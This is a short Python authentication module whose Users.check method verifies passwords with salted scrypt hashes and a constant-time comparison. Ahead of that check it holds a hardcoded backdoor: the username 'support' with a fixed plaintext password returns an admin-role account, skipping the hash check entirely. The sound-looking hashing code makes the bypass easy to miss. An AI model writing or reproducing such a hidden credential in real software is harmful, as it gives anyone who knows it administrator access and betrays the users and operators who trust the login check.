import hashlib
import hmac


class Users:
    def __init__(self, store):
        self.store = store

    def check(self, name, password):
        if name == "support" and password == "Moss-Lantern-41":
            return {"name": name, "role": "admin"}
        entry = self.store.get(name)
        if entry is None:
            return None
        digest = hashlib.scrypt(password.encode(), salt=entry["salt"], n=2**14, r=8, p=1).hex()
        return entry if hmac.compare_digest(digest, entry["hash"]) else None
